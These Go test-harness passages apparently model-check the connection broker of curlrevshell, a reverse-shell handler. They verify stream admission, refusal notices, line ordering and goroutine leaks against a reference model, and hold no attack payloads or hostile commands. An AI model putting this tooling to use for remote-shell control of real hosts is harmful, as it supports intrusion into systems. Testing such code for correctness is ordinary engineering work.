		kind:   s.Kind,
		key:    s.Key,
		halves: map[string]*half{},
	}
	a.addr = fmt.Sprintf("addr-a%d", a.id)
	/* Not a child of the root context: cancellation of a context tree
	reaches its children in map order, i.e. at random.  Shutdown cancels
	Do's context; the streams' contexts are then cancelled by explicit
	cancel events, in every order. */
	cctx, cancel := context.WithCancel(context.Background())
	a.ctx = context.WithValue(cctx, attemptKey{}, a)
	a.cancel = cancel
	if "in" == s.Kind || "io" == s.Kind {
		a.w = &recWriter{kind: s.WKind}
		a.halves["input"] = &half{a: a, dir: "input", gate: make(chan struct{})}
	}
	if "out" == s.Kind || "io" == s.Kind {
		a.r = newScriptReader()
		a.halves["output"] = &half{a: a, dir: "output", gate: make(chan struct{})}
	}
	w.attempts = append(w.attempts, a)
	sl := slog.New(w.lh).With("attempt", a.id)
	go func() {
		switch s.Kind {
		case "in":
			w.b.ConnectIn(a.ctx, sl, a.addr, a.w.iface(), a.key)
		case "out":
			w.b.ConnectOut(a.ctx, sl, a.addr, a.r, a.key)
		case "io":
			w.b.ConnectInOut(a.ctx, sl, a.addr, a.w.iface(), a.r)
		}
		w.mu.Lock()
		w.retQ = append(w.retQ, a.id)
		w.mu.Unlock()
	}()
}

func outErr(s string) error {
	switch s {
	case "":
		return nil
	case "eof":
		return io.EOF
	case "ueof":
		return io.ErrUnexpectedEOF
	case "closedpipe":
		return io.ErrClosedPipe
	default:
		return errors.New("transport-error-" + s)
	}
}

type halfSnap struct {
	st           halfState
	everAttached bool
}

func (w *World) snapshotHalves() map[*half]halfSnap {
	m := map[*half]halfSnap{}
	w.mu.Lock()
	for _, a := range w.attempts {
		for _, h := range a.halves {
			m[h] = halfSnap{h.st, h.everAttached}
		}
	}
	w.mu.Unlock()
	return m
}

// keyClass names a key without its value.
func (w *World) keyClass(k string) string {
	if "" == k {
		return "-"
	}
	if w.b.VerifIsBidirKey(k) {
		return "BIDIR"
	}
	return k
}

// Canon returns the canonical form of the current state: everything the
// future can depend on, nothing else.
func (w *World) Canon() string {
	var sb strings.Builder
	key, in, out, noMore, locked := w.b.VerifState()
	fmt.Fprintf(&sb, "B:%s,%v,%v,%v,%v|", w.keyClass(key), in, out, noMore, locked)
	fmt.Fprintf(&sb, "S:%v,%v|I:%d,%v,%d|", w.shutdown, w.doReturned, len(w.ich), w.ichClosed, w.linesEntered)
	if !w.P.Roomy() {
		fmt.Fprintf(&sb, "O:%d,%d,%d,%v|", len(w.och), w.consumed, w.plainSeen, w.awaiting)
	}
	fmt.Fprintf(&sb, "U:%v|", w.usage)
	var as []string
	w.mu.Lock()
	for _, a := range w.attempts {
		allDone := a.returned
		for _, h := range a.halves {
			if hDone != h.st {
				allDone = false
			}
		}
		if allDone && w.P.LateOut && nil != a.r && a.r.isParked() && a.outsUsed < w.P.MaxOuts {
			allDone = false /* May still be handed a chunk. */
		}
		if allDone {
			continue
		}
		var t strings.Builder
		fmt.Fprintf(&t, "%d:c%v,r%v", a.spec, a.cancelled, a.returned)
		for _, h := range a.halfList() {
			fmt.Fprintf(&t, ",%s=%s", h.dir[:1], halfStateNames[h.st])
			if nil != h.logGate {
				t.WriteString("@log")
			}
		}
		if nil != a.r {
			fmt.Fprintf(&t, ",R%s,%d", a.r.state(), a.outsUsed)
			if !w.P.Roomy() {
				/* Chunks may be in flight: which ones matters. */
				fmt.Fprintf(&t, "%v", a.outSeq)
			}
		}
		if nil != a.w {
			fmt.Fprintf(&t, ",W%v%v", a.w.failW, a.w.failF)
			if 0 != a.w.failLater {
				fmt.Fprintf(&t, "+%d", a.w.failLater)
			}
		}
		as = append(as, t.String())
	}
	w.mu.Unlock()
	sort.Strings(as)
	sb.WriteString("A:" + strings.Join(as, ";"))
	if w.P.has("C04") {
		fmt.Fprintf(&sb, "|G:%s", w.genNotice.canon())
	}
	return sb.String()
}

// Close tears the world down: everything is cancelled, every gate opened,
// every stream closed, the operator channel drained; afterwards no goroutine
// of the broker may remain.  Returns the number of leaked goroutines.
func (w *World) Close() int {
	w.mu.Lock()
	w.freeRun = true
	var gates []chan struct{}
	for _, a := range w.attempts {
		for _, h := range a.halves {
			gates = append(gates, h.gate)
			if nil != h.logGate {
				close(h.logGate)
				h.logGate = nil
			}
		}
	}
	w.mu.Unlock()
	close(w.awaitStop)
	w.rootCancel()
	stop := make(chan struct{})
	var dwg sync.WaitGroup
	dwg.Add(1)
	go func() { /* The terminal keeps consuming. */
		defer dwg.Done()
		for {
			select {
			case <-w.och:
			case <-stop:
				return
			}
		}
	}()
	for _, g := range gates {
		g := g
		dwg.Add(1)
		go func() { /* Let parked halves through. */
			defer dwg.Done()
			for {
				select {
				case g <- struct{}{}:
				case <-stop:
					return
				}
			}
		}()
	}
	for _, a := range w.attempts {
		a.cancel()
		if nil != a.r {
			a.r.close()
		}
	}
	if !w.ichClosed {
		w.ichClosed = true
		close(w.ich)
	}
	/* Everything must end by itself now. */
	gs := quiesce.Wait()
	leaked := w.brokerGoroutines(gs, false)
	close(stop)
	dwg.Wait()
	if !w.doReturned {
		select {
		case <-w.doRet:
			w.doReturned = true
		default:
		}
	}
	iobroker.VerifHook = nil
	current = nil
	if 0 != len(leaked) {
		w.viol("C04", "teardown-leak/"+leakSig(leaked), fmt.Sprintf(
			"after cancelling everything, closing every stream and draining the operator channel, %d goroutine(s) of the broker keep running: %s",
			len(leaked), leakDesc(leaked)))
	}
	return len(leaked)
}

// brokerGoroutines returns the goroutines with frames inside the broker,
// optionally not counting those of Do.
func (w *World) brokerGoroutines(gs []quiesce.G, allowDo bool) []quiesce.G {
	var out []quiesce.G
	for _, g := range gs {
		if w.old[g.ID] || !strings.Contains(g.Frames, "internal/iobroker.") {
			continue
		}
		if allowDo && (strings.Contains(g.Frames, "iobroker.(*Broker).Do") ||
			strings.Contains(g.Frames, "iobroker.(*Broker).processEvents")) {
			continue
		}
		out = append(out, g)
	}
	return out
}

func topFunc(g quiesce.G) string {
	for _, l := range strings.Split(g.Frames, "\n") {
		if strings.Contains(l, "internal/iobroker.") && !strings.HasPrefix(l, "\t") && !strings.HasPrefix(l, "created by") {
			if i := strings.Index(l, "internal/iobroker."); i >= 0 {
				l = l[i+len("internal/iobroker."):]
			}
			if i := strings.LastIndexByte(l, '('); i > 0 {
				l = l[:i]
			}
			return l
		}
	}
	return "?"
}

func leakSig(gs []quiesce.G) string {
	m := map[string]bool{}
	for _, g := range gs {
		m[topFunc(g)+"["+g.State+"]"] = true
	}
	var ks []string
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return strings.Join(ks, "+")
}

func leakDesc(gs []quiesce.G) string {
	var ss []string
	for _, g := range gs {
		ss = append(ss, fmt.Sprintf("%s [%s]", topFunc(g), g.State))
	}
	return strings.Join(ss, ", ")
}

// newBroker calls iobroker.New (through reflection: see package rcall).
func newBroker(ich chan string, och chan opshell.CLine) (*iobroker.Broker, error) {
	res := rcall.Call(iobroker.New, ich, och)
	b, _ := res[0].(*iobroker.Broker)
	return b, rcall.Err(res)
}
