package bworld

import (
	"encoding/json"
	"fmt"
	"log/slog"
	"strings"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
)

// model is the reference model of the broker, written from the statement
// of C01/C04/C06: at most one stream per direction, equal IDs, /io halves
// paired by request, everything else refused.
type model struct {
	key    string /* ID of the attached shell; "" when none or tearing down. */
	in     *half
	out    *half
	noMore bool
	/* Expectations for the step in progress. */
	expReady bool
	expGone  bool
	expPeer  *half /* Must have ended by the end of a release step. */
}

// mkey is the ID the model pairs halves by: the given ID for /i and /o, the
// identity of the request for /io.
func mkey(h *half) string {
	if "io" == h.a.kind {
		return fmt.Sprintf("\x00io-request-%d", h.a.id)
	}
	return h.a.key
}

func (m *model) side(dir string) **half {
	if "input" == dir {
		return &m.in
	}
	return &m.out
}

func (m *model) admit(w *World, h *half) {
	h.mDecided = true
	us := m.side(h.dir)
	switch {
	case m.noMore:
		h.mReason, h.mSilent = "shutdown", true
	case "io" != h.a.kind && "" == h.a.key:
		h.mReason = "missing"
	case "" == m.key && (nil != m.in || nil != m.out):
		h.mReason = "disconnecting"
	case nil != *us:
		h.mReason = "already"
	case "" != m.key && m.key != mkey(h):
		h.mReason = "wrongkey"
		if "io" == h.a.kind && strings.HasPrefix(m.key, "\x00io-request-") {
			h.mReason = "otherio" /* A side of another /io request. */
		}
	default:
		h.mAccept = true
		*us = h
		m.key = mkey(h)
		if nil != m.in && nil != m.out {
			m.expReady = true
		}
	}
}

func (m *model) release(w *World, h *half) {
	us := m.side(h.dir)
	if *us != h {
		/* Released something the model never attached: reported by the
		admission oracle already. */
		return
	}
	*us = nil
	m.key = ""
	if nil == m.in && nil == m.out {
		m.expGone = true
	} else if nil != m.in {
		m.expPeer = m.in
	} else {
		m.expPeer = m.out
	}
}

func (m *model) keyClass() string {
	switch {
	case "" == m.key:
		return "-"
	case strings.HasPrefix(m.key, "\x00io-request-"):
		return "BIDIR"
	}
	return m.key
}

// genNotices is kept for canonical-state purposes (nothing sticky needed so
// far: every C04 notice oracle is evaluated in the step that must show it).
type genNotices struct{}

func (genNotices) canon() string { return "" }

// c11State is C11's memory.
type c11State struct{}

// c03State is C03's memory for one output stream.
type c03State struct {
	supplied  []byte
	shown     []byte
	ended     string /* Terminal condition supplied by the transport. */
	disturbed bool   /* Cancelled / shut down / peer released before the close notice. */
	closeSeen bool
}

func (w *World) c03For(a *attempt) *c03State {
	s, ok := w.c03[a.id]
	if !ok {
		s = &c03State{}
		w.c03[a.id] = s
	}
	return s
}

func dirT(dir string) string { return strings.ToUpper(dir[:1]) + dir[1:] }

// live reports whether h holds (in the real broker) its direction.
func live(h *half) bool {
	return hParkAdmitted == h.st || hAttached == h.st || hParkRelease == h.st || hReleasing == h.st
}

// observe runs the oracles of the profile on the step just settled.
func (w *World) observe(st *Step, pre map[*half]halfSnap) {
	p := w.P
	e := st.Ev
	roomy := p.Roomy()

	/* Account notices. */
	for _, cl := range st.Notices {
		if cl.Plain {
			w.plainSeen++
		} else {
			w.noticeSeen++
		}
	}

	w.mu.Lock()
	mid := false
	for _, a := range w.attempts {
		for _, h := range a.halves {
			if hInAdmission == h.st || hReleasing == h.st {
				mid = true
			}
		}
	}
	w.mu.Unlock()

	hist := func() string { return " after " + HistString(w.Hist) }

	/* ---- Disturbance bookkeeping for C03. ---- */
	switch e.Op {
	case "cancel", "linecancel":
		if a := w.attempts[e.A]; nil != a.r {
			w.c03For(a).disturbed = true
		}
	case "shutdown":
		for _, a := range w.attempts {
			if nil != a.r {
				w.c03For(a).disturbed = true
			}
		}
	case "release":
		/* Releasing one side cancels the other. */
		for _, a := range w.attempts {
			if nil != a.r && !(a.id == e.A && "output" == e.Dir) {
				w.c03For(a).disturbed = true
			}
		}
	}

	/* ---- C01: an attempt made during shutdown is ended at once: nobody
	is told about it, so it has nothing to wait for, however stalled the
	terminal is (admissions are only explored while no other section is
	under way, so nobody else holds the lock). ---- */
	if "admit" == e.Op {
		if h := w.attempts[e.A].halves[e.Dir]; h.mDecided && !h.mAccept && "shutdown" == h.mReason && hInAdmission == h.st {
			w.viol("C01", "refused-not-ended/shutdown", fmt.Sprintf(
				"%s half of a%d, attempted during shutdown, is still inside the admission section (waiting for the terminal, which holds %d unread notices)%s",
				h.dir, h.a.id, len(w.och), hist()))
		}
	}

	/* ---- C01 / C06: admission verdicts. ---- */
	if "admit" == e.Op && !mid {
		h := w.attempts[e.A].halves[e.Dir]
		props := []string{"C01"}
		if "io" == h.a.kind || (nil != w.m.in && "io" == w.m.in.a.kind) || (nil != w.m.out && "io" == w.m.out.a.kind) {
			props = append(props, "C06")
		}
		if h.mAccept {
			if !h.everAttached {
				for _, pr := range props {
					w.viol(pr, "refused-should-accept/"+h.a.kind+"-"+h.dir, fmt.Sprintf(
						"%s half of %s attempt a%d (ID %q) should have been accepted but was refused%s",
						h.dir, h.a.kind, h.a.id, h.a.key, hist()))
				}
			}
		} else {
			if h.everAttached {
				for _, pr := range props {
					w.viol(pr, "accepted-should-refuse/"+h.mReason+"/"+h.a.kind+"-"+h.dir, fmt.Sprintf(
						"%s half of %s attempt a%d (ID %q) was attached although it must be refused (%s)%s",
						h.dir, h.a.kind, h.a.id, h.a.key, h.mReason, hist()))
				}
			} else {
				/* (With a terminal that is not taking notices a refusal
				waits for its notice to be taken; a refusal during shutdown
				has none to wait for.) */
				if hDone != h.st && (roomy || "shutdown" == h.mReason) {
					w.viol("C01", "refused-not-ended/"+h.mReason, fmt.Sprintf(
						"refused %s half of a%d did not end at once (state %s)%s",
						h.dir, h.a.id, halfStateNames[h.st], hist()))
				}
				allDone := true
				for _, o := range h.a.halves {
					if hDone != o.st {
						allDone = false
					}
				}
				if allDone && !h.a.returned {
					w.viol("C01", "refused-call-not-returned/"+h.mReason, fmt.Sprintf(
						"every half of a%d is finished but its Connect call has not returned%s", h.a.id, hist()))
				}
				if !h.mSilent && roomy {
					told := false
					for _, cl := range st.Notices {
						if !cl.Plain && opshell.ColorRed == cl.Color && strings.Contains(cl.Line, "["+h.a.addr+"]") {
							told = true
						}
					}
					if !told {
						w.viol("C01", "refusal-not-announced/"+h.mReason, fmt.Sprintf(
							"refusal (%s) of %s half of a%d produced no error notice naming its address%s",
							h.mReason, h.dir, h.a.id, hist()))
					}
				}
			}
		}
	}

	/* ---- C01: nobody but the attached shell sees I/O. ---- */
	for _, a := range w.attempts {
		if h, ok := a.halves["input"]; ok {
			if (!h.mDecided || !h.mAccept) && !h.everAttached && 0 != len(a.w.snapshot()) {
				w.viol("C01", "unattached-got-input", fmt.Sprintf(
					"writer of a%d, which was never attached, received %v%s", a.id, a.w.snapshot(), hist()))
			}
			if h.mDecided && !h.mAccept && 0 != len(a.w.snapshot()) {
				w.viol("C01", "refused-got-input", fmt.Sprintf(
					"writer of refused a%d received %v%s", a.id, a.w.snapshot(), hist()))
			}
		}
		if h, ok := a.halves["output"]; ok {
			if (!h.mDecided || !h.mAccept) && !h.everAttached && 0 != a.r.nReads() && !a.returned {
				w.viol("C01", "unattached-output-read", fmt.Sprintf(
					"reader of a%d, which was never attached, is being read%s", a.id, hist()))
			}
			if h.mDecided && !h.mAccept && !h.everAttached && 0 != a.r.nReads() {
				w.viol("C01", "refused-output-read", fmt.Sprintf(
					"reader of refused a%d was read%s", a.id, hist()))
			}
		}
	}

	/* ---- C01/C04/C06: private state equals the model. ---- */
	if !mid {
		key, in, out, noMore, locked := w.b.VerifState()
		if !locked {
			got := fmt.Sprintf("key=%s in=%v out=%v noMore=%v", w.keyClass(key), in, out, noMore)
			want := fmt.Sprintf("key=%s in=%v out=%v noMore=%v", w.m.keyClass(), nil != w.m.in, nil != w.m.out, w.m.noMore)
			if got != want {
				for _, pr := range []string{"C01", "C04", "C06"} {
					w.viol(pr, "state-differs-from-model", fmt.Sprintf("broker state %s, model %s%s", got, want, hist()))
				}
			}
		}
	}

	/* ---- C06: a shell involving /io is one request. ---- */
	{
		var li, lo *half
		w.mu.Lock()
		for _, a := range w.attempts {
			for _, h := range a.halves {
				if live(h) {
					if "input" == h.dir {
						if nil != li {
							w.violLocked("C01", "two-inputs-attached", fmt.Sprintf("a%d and a%d both hold the input direction%s", li.a.id, h.a.id, hist()))
						}
						li = h
					} else {
						if nil != lo {
							w.violLocked("C01", "two-outputs-attached", fmt.Sprintf("a%d and a%d both hold the output direction%s", lo.a.id, h.a.id, hist()))
						}
						lo = h
					}
				}
			}
		}
		if nil != li && nil != lo && li.a != lo.a && ("io" == li.a.kind || "io" == lo.a.kind) {
			w.violLocked("C06", "cross-paired-halves", fmt.Sprintf(
				"the attached shell combines the input half of %s request a%d with the output half of %s request a%d%s",
				li.a.kind, li.a.id, lo.a.kind, lo.a.id, hist()))
		}
		if nil != li && nil != lo && li.a.key != lo.a.key {
			w.violLocked("C01", "different-ids-attached", fmt.Sprintf(
				"input a%d (ID %q) and output a%d (ID %q) attached together%s", li.a.id, li.a.key, lo.a.id, lo.a.key, hist()))
		}
		w.mu.Unlock()
	}

	/* ---- C04: announcements. ---- */
	if roomy && !mid {
		nReady, nGone := 0, 0
		for _, cl := range st.Notices {
			if cl.Plain {
				continue
			}
			if strings.HasSuffix(cl.Line, iobroker.ShellReadyMessage) {
				nReady++
			}
			if strings.HasSuffix(cl.Line, iobroker.ShellDisconnectedMessage) {
				nGone++
			}
		}
		nConn, nDisc := 0, 0
		for _, ev := range st.Events {
			switch ev.Type {
			case iobroker.EventTypeConnected:
				nConn++
			case iobroker.EventTypeDisconnected:
				nDisc++
			}
		}
		wantReady, wantGone := 0, 0
		if w.m.expReady {
			wantReady = 1
		}
		if w.m.expGone {
			wantGone = 1
		}
		if nReady != wantReady {
			w.viol("C04", fmt.Sprintf("ready-notice/%d-want-%d", nReady, wantReady), fmt.Sprintf(
				"%d ready notices in a step that should show %d%s", nReady, wantReady, hist()))
		}
		if nGone != wantGone {
			w.viol("C04", fmt.Sprintf("gone-notice/%d-want-%d", nGone, wantGone), fmt.Sprintf(
				"%d 'shell is gone' notices in a step that should show %d%s", nGone, wantGone, hist()))
		}
		if !w.shutdown {
			if nConn != wantReady {
				w.viol("C04", fmt.Sprintf("connected-event/%d-want-%d", nConn, wantReady), fmt.Sprintf(
					"%d connected events, want %d%s", nConn, wantReady, hist()))
			}
			if nDisc != wantGone {
				w.viol("C04", fmt.Sprintf("disconnected-event/%d-want-%d", nDisc, wantGone), fmt.Sprintf(
					"%d disconnected events, want %d%s", nDisc, wantGone, hist()))
			}
		} else if nConn > wantReady || nDisc > wantGone {
			w.viol("C04", "extra-event-during-shutdown", fmt.Sprintf(
				"%d connected / %d disconnected events, at most %d / %d expected%s", nConn, nDisc, wantReady, wantGone, hist()))
		}
		/* The peer of a released direction ends without further traffic. */
		if pr := w.m.expPeer; nil != pr {
			w.mu.Lock()
			s := pr.st
			w.mu.Unlock()
			if s < hParkRelease && hParkAdmitted != s { /* (not when the harness itself holds it back) */
				w.viol("C04", "peer-not-ended/"+pr.dir, fmt.Sprintf(
					"after the release of the other direction the %s half of a%d is still %s%s",
					pr.dir, pr.a.id, halfStateNames[s], hist()))
			}
		}
		/* A transport error is one of the ways a direction ends: an input
		stream whose Write or FlushError reported a failure to the broker
		is not attached any more once things are quiet (C04-V). */
		w.mu.Lock()
		for _, a := range w.attempts {
			h := a.halves["input"]
			if nil == a.w || nil == h || hAttached != h.st {
				continue
			}
			for _, o := range a.w.snapshot() {
				if o.Err && "F" != o.Op { /* http.Flusher.Flush cannot report a failure. */
					w.violLocked("C04", "input-survives-transport-error", fmt.Sprintf(
						"the input transport of a%d reported an error (%s) to the broker, yet the input direction is still attached%s", a.id, o.Op, hist()))
					break
				}
			}
		}
		w.mu.Unlock()
		/* Closure notices: exactly when a unidirectional stream's proxy
		ends, and never otherwise; /io halves may stay silent. */
		w.mu.Lock()
		for _, a := range w.attempts {
			for _, h := range a.halves {
				was := pre[h]
				ended := was.st < hParkRelease && h.st >= hParkRelease && h.everAttached
				want := fmt.Sprintf("[%s] %s connection closed", a.addr, dirT(h.dir))
				if "io" == a.kind {
					want = fmt.Sprintf("[%s] %s side of bidirectional connection closed", a.addr, dirT(h.dir))
				}
				n := 0
				for _, cl := range st.Notices {
					if !cl.Plain && strings.HasPrefix(cl.Line, want) {
						n++
					}
				}
				switch {
				case ended && "io" != a.kind && 1 != n:
					w.violLocked("C04", fmt.Sprintf("closure-notice/%d-want-1", n), fmt.Sprintf(
						"%s stream of a%d ended with %d closure notices%s", h.dir, a.id, n, hist()))
				case ended && "io" == a.kind && n > 1:
					w.violLocked("C04", "closure-notice/io-many", fmt.Sprintf(
						"%s half of /io a%d ended with %d closure notices%s", h.dir, a.id, n, hist()))
				case !ended && 0 != n:
					w.violLocked("C04", "closure-notice/unexpected", fmt.Sprintf(
						"closure notice for %s of a%d although it did not end in this step%s", h.dir, a.id, hist()))
				}
			}
		}
		w.mu.Unlock()
	}
	/* ---- C04 with a stalled terminal (unbuffered operator channel): the
	notices are handed over one at a time, whenever the operator's side
	takes one, so they are counted over the whole history.  A Connect call
	hands its notices over synchronously: once it has returned, they must
	have been taken. ---- */
	if p.has("C04") && 0 == p.OchCap {
		for _, cl := range st.Notices {
			if !cl.Plain {
				w.stalledNotices = append(w.stalledNotices, cl.Line)
			}
		}
		if w.m.expReady {
			w.cumReady++
		}
		if w.m.expGone {
			w.cumGone++
		}
		count := func(f func(string) bool) (n int) {
			for _, l := range w.stalledNotices {
				if f(l) {
					n++
				}
			}
			return n
		}
		nReady := count(func(l string) bool { return strings.HasSuffix(l, iobroker.ShellReadyMessage) })
		nGone := count(func(l string) bool { return strings.HasSuffix(l, iobroker.ShellDisconnectedMessage) })
		w.mu.Lock()
		allReturned := true
		for _, a := range w.attempts {
			if !a.returned {
				allReturned = false
			}
		}
		for _, a := range w.attempts {
			if "io" == a.kind {
				continue
			}
			for _, h := range a.halves {
				want := fmt.Sprintf("[%s] %s connection closed", a.addr, dirT(h.dir))
				n := count(func(l string) bool { return strings.HasPrefix(l, want) })
				switch {
				case n > 1:
					w.violLocked("C04", fmt.Sprintf("stalled/closure-notice/%d-want-1", n), fmt.Sprintf(
						"%s stream of a%d: %d closure notices reached the (slow) operator%s", h.dir, a.id, n, hist()))
				case a.returned && h.everAttached && 1 != n:
					w.violLocked("C04", fmt.Sprintf("stalled/closure-notice/%d-want-1", n), fmt.Sprintf(
						"%s stream of a%d was attached, its Connect call has returned, and %d closure notices were ever handed to the (slow) operator%s", h.dir, a.id, n, hist()))
				}
			}
		}
		w.mu.Unlock()
		if nReady > w.cumReady || (allReturned && nReady != w.cumReady) {
			w.viol("C04", fmt.Sprintf("stalled/ready-notice/%d-want-%d", nReady, w.cumReady), fmt.Sprintf(
				"%d shells became ready so far, the (slow) operator was handed %d ready notices (every Connect call returned: %v)%s", w.cumReady, nReady, allReturned, hist()))
		}
		if nGone > w.cumGone || (allReturned && nGone != w.cumGone) {
			w.viol("C04", fmt.Sprintf("stalled/gone-notice/%d-want-%d", nGone, w.cumGone), fmt.Sprintf(
				"%d shells ended so far, the (slow) operator was handed %d 'shell is gone' notices (every Connect call returned: %v)%s", w.cumGone, nGone, allReturned, hist()))
		}
	}
	w.m.expReady, w.m.expGone, w.m.expPeer = false, false, nil

	/* ---- C04: Do returns only when nothing is attached; nothing of an
	ended shell keeps running. ---- */
	{
		anyLive, allFinished := false, true
		w.mu.Lock()
		for _, a := range w.attempts {
			if !a.returned {
				allFinished = false
			}
			for _, h := range a.halves {
				if live(h) || hInAdmission == h.st {
					anyLive = true
				}
				if hDone != h.st {
					allFinished = false
				}
			}
		}
		w.mu.Unlock()
		if st.DoRet && anyLive {
			w.viol("C04", "do-returned-early", "Broker.Do returned while a stream was still attached"+hist())
		}
		if st.DoRet && !w.shutdown {
			w.viol("C04", "do-returned-without-shutdown", "Broker.Do returned although its context is alive"+hist())
		}
		if w.shutdown && allFinished && !w.doReturned {
			w.viol("C04", "do-never-returns", "after shutdown every stream has ended but Broker.Do has not returned"+hist())
		}
		if allFinished {
			if lk := w.brokerGoroutines(w.lastGS, true); 0 != len(lk) {
				w.viol("C04", "leak/"+leakSig(lk), fmt.Sprintf(
					"every connection has returned and every stream is closed, yet %d goroutine(s) of the broker keep running: %s%s",
					len(lk), leakDesc(lk), hist()))
			}
		}
	}

	/* ---- C02: operator input. ---- */
	if p.has("C02") || p.has("C11") || p.has("C01") {
		w.checkInput(st, hist)
	}

	/* ---- C03: shell output. ---- */
	w.checkOutput(st, hist)

	/* ---- C11: the log. ---- */
	if p.has("C11") && (roomy || 0 == p.OchCap) {
		w.checkLog(st, pre, hist, roomy && !mid)
	}
}

// entry is one operator line as seen by a writer.
type entry struct {
	line string
	ok   bool /* Written and flushed without error. */
	a    *attempt
	seq  int
}

// parseWriter splits a writer's op log into entries and reports protocol
// errors (C02's per-writer clauses).
func parseWriter(a *attempt, entered []string) (ents []entry, code, problem string) {
	ops := a.w.snapshot()
	kind := a.w.kind
	if 0 == kind {
		return parsePlainWriter(a, ops, entered)
	}
	wantFlush := ""
	switch kind {
	case 1:
		wantFlush = "F"
	case 2, 3:
		wantFlush = "FE"
	}
	var cur strings.Builder
	pending := false /* Bytes written, flush outstanding. */
	for i, op := range ops {
		switch op.Op {
		case "W":
			if pending && "" != wantFlush && strings.HasSuffix(cur.String(), "\n") {
				return ents, "write-before-flush", fmt.Sprintf("op %d: bytes of the next entry written before the previous entry was flushed: %v", i, ops)
			}
			if op.Err {
				/* The failing write may carry the entry. */
				cur.WriteString(op.Data)
				ents = append(ents, entry{line: strings.TrimSuffix(cur.String(), "\n"), ok: false, a: a})
				cur.Reset()
				pending = false
				if i != len(ops)-1 {
					return ents, "use-after-write-error", fmt.Sprintf("op %d: writer used after its write failed: %v", i, ops)
				}
				continue
			}
			cur.WriteString(op.Data)
			pending = true
			if "" == wantFlush && strings.HasSuffix(cur.String(), "\n") {
				ents = append(ents, entry{line: strings.TrimSuffix(cur.String(), "\n"), ok: true, a: a})
				cur.Reset()
				pending = false
			}
		case "F", "FE":
			if op.Op != wantFlush {
				return ents, "wrong-flush-method", fmt.Sprintf("op %d: %s called, expected %q for this writer kind: %v", i, op.Op, wantFlush, ops)
			}
			if !pending {
				return ents, "flush-without-entry", fmt.Sprintf("op %d: flush without a preceding entry: %v", i, ops)
			}
			s := cur.String()
			if !strings.HasSuffix(s, "\n") {
				return ents, "flush-mid-entry", fmt.Sprintf("op %d: flushed bytes %q do not end an entry: %v", i, s, ops)
			}
			ents = append(ents, entry{line: strings.TrimSuffix(s, "\n"), ok: !op.Err, a: a})
			cur.Reset()
			pending = false
			if op.Err && i != len(ops)-1 {
				return ents, "use-after-flush-error", fmt.Sprintf("op %d: writer used after its flush failed: %v", i, ops)
			}
		}
	}
	if pending {
		return ents, "entry-not-flushed", fmt.Sprintf("at rest with an entry written but not flushed (or not newline-terminated): %v", ops)
	}
	return ents, "", ""
}

// parsePlainWriter handles a writer without any flush method: only the byte
// sequence is defined, so the stream is matched greedily against the entered
// lines (each followed by one newline).
func parsePlainWriter(a *attempt, ops []wop, entered []string) (ents []entry, code, problem string) {
	var stream strings.Builder
	var failed *wop
	for i := range ops {
		op := ops[i]
		if "W" != op.Op {
			return nil, "flush-on-plain-writer", fmt.Sprintf("op %d: %s on a writer without flush methods: %v", i, op.Op, ops)
		}
		if op.Err {
			failed = &ops[i]
			if i != len(ops)-1 {
				return nil, "use-after-write-error", fmt.Sprintf("op %d: writer used after its write failed: %v", i, ops)
			}
			continue
		}
		stream.WriteString(op.Data)
	}
	rest := stream.String()
	start := -1
	for i, l := range entered {
		if strings.HasPrefix(rest, l+"\n") {
			start = i
			break
		}
	}
	next := start
	for "" != rest {
		if next < 0 || next >= len(entered) || !strings.HasPrefix(rest, entered[next]+"\n") {
			return ents, "plain-writer-bytes", fmt.Sprintf("byte stream %q is not a run of entered lines each followed by one newline (stuck at %q)", trunc(stream.String()), trunc(rest))
		}
		ents = append(ents, entry{line: entered[next], ok: true, a: a})
		rest = rest[len(entered[next])+1:]
		next++
	}
	if nil != failed {
		ents = append(ents, entry{line: strings.TrimSuffix(failed.Data, "\n"), ok: false, a: a})
	}
	return ents, "", ""
}

func trunc(s string) string {
	if len(s) > 120 {
		return s[:120] + "..."
	}
	return s
}

// checkInput checks C02 (and the input side of C01/C11): entries arrive
// whole, flushed, in order, exactly once, and none is lost.
func (w *World) checkInput(st *Step, hist func() string) {
	/* Writers in the order they were attached = order of attempts'
	admission; entries within a writer are ordered; across writers the
	order is the order of first use, which (one input at a time) is the
	order of admission.  Reconstruct the global sequence by sorting
	writers by the position of their first entry in the entered list. */
	var all []entry
	type wl struct {
		a    *attempt
		ents []entry
	}
	var wls []wl
	for _, a := range w.attempts {
		if nil == a.w {
			continue
		}
		ents, code, problem := parseWriter(a, w.entered)
		if "" != code {
			w.viol("C02", "writer-protocol/"+code, fmt.Sprintf("writer of a%d: %s%s", a.id, problem, hist()))
		}
		if 0 != len(ents) {
			wls = append(wls, wl{a, ents})
		}
		a.linesGot = a.linesGot[:0]
		for _, en := range ents {
			if en.ok {
				a.linesGot = append(a.linesGot, en.line)
			}
		}
	}
	/* Each writer's entries must be a contiguous run of the entered
	sequence; the runs must tile a prefix of it. */
	idx := map[string]int{}
	for i, l := range w.entered {
		idx[l] = i
	}
	covered := make([]int, len(w.entered))
	for _, x := range wls {
		prev := -1
		for j, en := range x.ents {
			i, ok := idx[en.line]
			if !ok {
				w.viol("C02", "entry-not-entered", fmt.Sprintf("a%d received %q, which the operator never entered%s", x.a.id, en.line, hist()))
				continue
			}
			covered[i]++
			if j > 0 && i != prev+1 {
				w.viol("C02", "gap-or-reorder", fmt.Sprintf("a%d received entry %d right after entry %d%s", x.a.id, i, prev, hist()))
			}
			prev = i
			all = append(all, en)
		}
	}
	taken := 0
	for i, c := range covered {
		if c > 1 {
			w.viol("C02", "duplicate", fmt.Sprintf("entry %d (%q) was sent %d times%s", i, w.entered[i], c, hist()))
		}
		if c > 0 {
			taken++
			if i > 0 && 0 == covered[i-1] {
				w.viol("C02", "gap", fmt.Sprintf("entry %d was sent although entry %d never was%s", i, i-1, hist()))
			}
		}
	}
	/* Nothing is lost: every entered line was sent or is still queued. */
	if !w.ichClosed && taken+len(w.ich) != len(w.entered) {
		w.viol("C02", "line-lost", fmt.Sprintf(
			"%d lines entered, %d sent (or failed in their own transmission), %d still queued: %d vanished%s",
			len(w.entered), taken, len(w.ich), len(w.entered)-taken-len(w.ich), hist()))
	}
	w.delivered = taken
}

// checkOutput checks C03 on the notices of this step.
func (w *World) checkOutput(st *Step, hist func() string) {
	for _, cl := range st.Notices {
		if cl.Plain {
			/* Attribute by marker: every supplied chunk names its attempt. */
			var owner *attempt
